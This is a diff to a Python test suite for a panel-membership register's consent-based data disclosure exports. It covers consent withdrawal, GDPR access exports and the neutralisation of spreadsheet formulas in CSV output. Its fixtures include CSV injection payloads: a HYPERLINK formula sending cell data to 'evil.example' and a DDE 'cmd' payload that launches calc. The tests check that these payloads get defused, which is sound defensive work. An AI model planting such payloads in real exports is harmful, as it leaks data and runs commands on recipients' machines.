@@ -21,7 +21,7 @@ from typing import Any
 import pytest
 import yaml
 
-from kss_panel.services import disclosure, rights
+from kss_panel.services import access, disclosure
 from kss_panel.writers import neutralise
 from support import NOW, POLICIES_DIR, Builder, Register, person
 
@@ -32,6 +32,7 @@ HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
 OVERSEAS = """
   survey-cloud:
     name: Example Survey Cloud Inc.
+    category: {{fi: Kyselypalvelu, sv: Enkättjänst, en: Survey service}}
     role: processor
     country: US
 {safeguard}    purposes:
@@ -44,6 +45,7 @@ OVERSEAS = """
 LETTER_SHOP = """
   letter-shop:
     name: Esimerkki Kirjepaino Oy
+    category: {fi: Kirjepaino, sv: Brevtryckeri, en: Letter printer}
     role: processor
     country: FI
     purposes:
@@ -55,9 +57,26 @@ LETTER_SHOP = """
       - contact.city
 """
 
+# A recipient of survey samples, which receives a list (hobbies) and an integer (birth year) for market research.
+SURVEY_HOUSE = """
+  survey-house:
+    name: Esimerkki Tutkimus Oy
+    category: {fi: Tutkimuslaitos, sv: Undersökningsinstitut, en: Research agency}
+    role: processor
+    country: FI
+    purposes:
+      market_research: {consent: none}
+    fields:
+      - contact.first_name
+      - contact.email
+      - contact.city
+      - demographics.birth_year
+      - hobbies
+"""
+
 
 STREET = "Kauppamiehenkatu 5"
-EMAIL = ("email_marketing",)
+EMAIL = ("email_marketing", "marketing_competitions")
 PEOPLE: dict[str, dict[str, Any]] = {
     "anna": person(1, "Anna", "Aaltonen", given=(*EMAIL, "sms_marketing"), hobbies=["sauna", "fishing"], contact__street_address=STREET,
                    contact__email="anna.aaltonen@example.fi", contact__phone="+358403000001", demographics__birth_year=1971),
@@ -135,15 +154,43 @@ def test_direct_marketing_requires_the_email_marketing_consent(panel: Register) 
     assert sorted(panel.names[row["member_id"]] for row in rows) == sorted(WITH_EMAIL_CONSENT)
     anna = next(row for row in rows if row["member_id"] == panel.ids["anna"])
     assert anna == {"member_id": panel.ids["anna"], **{path: expected_cell(PEOPLE["anna"], path) for path in header[1:]}}
+    assert anna["contact.street_address"] == STREET
+
+
+def test_lists_and_integers_are_cells_of_their_own(panel: Register) -> None:
+    panel.custom_policies(SURVEY_HOUSE)
+    result, out = panel.disclose("survey-house", "market_research")
+    assert result.exit_code == 0, result.stderr
+    header, rows = read_csv(out)
+    assert header == ["member_id", "contact.first_name", "contact.email", "contact.city", "demographics.birth_year", "hobbies"]
+    anna = next(row for row in rows if row["member_id"] == panel.ids["anna"])
+    assert anna == {"member_id": panel.ids["anna"], **{path: expected_cell(PEOPLE["anna"], path) for path in header[1:]}}
     assert anna["hobbies"] == "sauna;fishing" and anna["demographics.birth_year"] == "1971"
 
 
-def test_a_withdrawn_consent_takes_the_member_out_of_marketing(panel: Register) -> None:
-    assert panel.run("consent", panel.ids["anna"], "--withdraw", "email_marketing").exit_code == 0
-    result, out = panel.disclose("direct-marketing", "competitions")
+def disclosed_names(panel: Register, recipient: str, purpose: str) -> list[str]:
+    result, out = panel.disclose(recipient, purpose)
     assert result.exit_code == 0, result.stderr
-    _, rows = read_csv(out)
-    assert sorted(panel.names[row["member_id"]] for row in rows) == ["fanni", "greta", "hilja", "ilona"]
+    return sorted(panel.names[row["member_id"]] for row in read_csv(out)[1])
+
+
+def test_a_withdrawn_consent_takes_the_member_out_of_its_purpose_only(panel: Register) -> None:
+    assert panel.run("consent", panel.ids["anna"], "--withdraw", "email_marketing").exit_code == 0
+    assert disclosed_names(panel, "direct-marketing", "marketing") == ["fanni", "greta", "hilja", "ilona"]
+    # Competitions have a consent of their own: withdrawing email marketing does not touch it.
+    assert disclosed_names(panel, "direct-marketing", "competitions") == sorted(WITH_EMAIL_CONSENT)
+    assert panel.run("consent", panel.ids["anna"], "--withdraw", "marketing_competitions").exit_code == 0
+    assert disclosed_names(panel, "direct-marketing", "competitions") == ["fanni", "greta", "hilja", "ilona"]
+
+
+def test_the_group_and_partners_need_consents_of_their_own(panel: Register) -> None:
+    for recipient in ("group-companies", "partners"):
+        for purpose in ("communication", "market_research", "marketing", "competitions"):
+            assert disclosed_names(panel, recipient, purpose) == [], (recipient, purpose)
+    assert panel.run("consent", panel.ids["bertta"], "--give", "partner_marketing").exit_code == 0
+    assert disclosed_names(panel, "partners", "marketing") == ["bertta"]
+    assert disclosed_names(panel, "partners", "communication") == []
+    assert disclosed_names(panel, "group-companies", "marketing") == []
 
 
 def test_lifting_a_restriction_makes_the_member_disclosable_again(panel: Register) -> None:
@@ -155,7 +202,7 @@ def test_lifting_a_restriction_makes_the_member_disclosable_again(panel: Registe
 
 @pytest.mark.parametrize(
     ("recipient", "purpose"),
-    [(recipient, purpose) for recipient, spec in SHIPPED.items() for purpose in spec["purposes"]],
+    [(recipient, purpose) for recipient, spec in SHIPPED.items() for purpose in spec.get("purposes", {})],
 )
 def test_the_header_is_member_id_and_exactly_the_recipients_fields(panel: Register, recipient: str, purpose: str) -> None:
     result, out = panel.disclose(recipient, purpose)
@@ -226,11 +273,20 @@ def test_formula_cells_are_neutralised_in_csv(panel: Register) -> None:
     assert by_name["greta"]["contact.city"] == "'+cmd|' /C calc'!A0"
     assert by_name["hilja"]["contact.city"] == "'-2+3"
     assert by_name["ilona"]["contact.city"] == "'@SUM(A1:A2)"
-    assert by_name["fanni"]["hobbies"] == "'=1+1;sauna"
+    assert by_name["fanni"]["contact.street_address"] == "'=1+2"
     assert by_name["anna"]["contact.city"] == "Kouvola"
     for row in rows:
         for cell in row.values():
             assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+
+
+def test_formula_cells_in_a_list_are_neutralised(panel: Register) -> None:
+    panel.custom_policies(SURVEY_HOUSE)
+    result, out = panel.disclose("survey-house", "market_research")
+    assert result.exit_code == 0, result.stderr
+    by_name = {panel.names[row["member_id"]]: row for row in read_csv(out)[1]}
+    assert by_name["fanni"]["hobbies"] == "'=1+1;sauna"
+    assert by_name["fanni"]["contact.city"] == "'" + HYPERLINK
 
 
 def test_street_cells_are_neutralised_too(panel: Register) -> None:
@@ -253,9 +309,14 @@ def test_json_format_keeps_values_as_they_are(panel: Register) -> None:
         assert list(row) == ["member_id", *SHIPPED["direct-marketing"]["fields"]]
     by_name = {panel.names[row["member_id"]]: row for row in rows}
     assert by_name["fanni"]["contact.city"] == HYPERLINK  # JSON is not a spreadsheet: no quote added
+    assert by_name["anna"]["contact.email"] == "anna.aaltonen@example.fi"
+
+    panel.custom_policies(SURVEY_HOUSE)
+    result, out = panel.disclose("survey-house", "market_research", "--format", "json", out="survey.json")
+    assert result.exit_code == 0, result.stderr
+    by_name = {panel.names[row["member_id"]]: row for row in json.loads(out.read_text(encoding="utf-8"))}
     assert by_name["anna"]["hobbies"] == ["sauna", "fishing"]
     assert by_name["anna"]["demographics.birth_year"] == 1971
-    assert by_name["anna"]["contact.email"] == "anna.aaltonen@example.fi"
 
 
 def test_json_format_with_nobody_to_disclose_is_an_empty_array(panel: Register) -> None:
@@ -331,7 +392,8 @@ def test_an_export_without_an_output_file_is_refused(panel: Register) -> None:
 
 @pytest.mark.parametrize(
     ("recipient", "purpose"),
-    [("nobody-we-know", "communication"), ("panel-mailer", "marketing"), ("sms-gateway", "communication"), ("direct-marketing", "market_research")],
+    [("nobody-we-know", "communication"), ("panel-mailer", "marketing"), ("sms-gateway", "communication"), ("direct-marketing", "market_research"),
+     ("hosting", "communication")],
 )
 def test_a_recipient_or_purpose_the_policy_does_not_allow_exits_9(panel: Register, recipient: str, purpose: str) -> None:
     before = panel.tables()
@@ -412,7 +474,7 @@ def test_the_disclosure_log_date_is_the_day_of_the_export(panel: Register) -> No
         rows = json.loads(out.read_text())
         assert summary["disclosed"] == len(rows) == len(DISCLOSABLE)
         assert all(list(row) == ["member_id", *SHIPPED["panel-mailer"]["fields"]] for row in rows)
-        export = rights.access_export(session, panel.ids["anna"], NOW)["document"]
+        export = access.access_export(session, panel.ids["anna"], NOW)["document"]
     assert export["disclosures"] == [{
         "recipient": "panel-mailer", "recipient_name": SHIPPED["panel-mailer"]["name"], "country": "FI",
         "purpose": "communication", "fields": SHIPPED["panel-mailer"]["fields"], "date": "2025-06-15",
@@ -425,3 +487,19 @@ def test_no_disclosure_is_logged_when_the_export_fails(panel: Register) -> None:
     result = panel.run("export", "disclosure", "panel-mailer", "--purpose", "communication", "--out", str(out))
     assert result.exit_code == 5, (result.stdout, result.stderr)
     assert panel.tables() == before
+
+
+def test_the_access_export_names_exactly_the_recipients_that_export_disclosure_serves(panel: Register) -> None:
+    """Art. 15(1)(c): "will be disclosed to" is what `export disclosure` really does, member by member."""
+    assert panel.run("consent", panel.ids["bertta"], "--give", "group_market_research").exit_code == 0
+    served: dict[str, set[tuple[str, str]]] = {name: set() for name in PEOPLE}
+    for recipient, spec in SHIPPED.items():
+        for purpose in spec.get("purposes", {}):
+            for name in disclosed_names(panel, recipient, purpose):
+                served[name].add((recipient, purpose))
+    for name in PEOPLE:
+        export = panel.json("export", "access", panel.ids[name])
+        promised = {(r["recipient"], p["purpose"]) for r in export["recipients"] if not r["held_by_restriction"] for p in r["purposes"]}
+        assert promised == served[name], name
+    assert ("group-companies", "market_research") in served["bertta"]
+    assert served["elsa"] == served["cecilia"] == served["dora"] == set()  # an applicant, a restricted and an objecting member
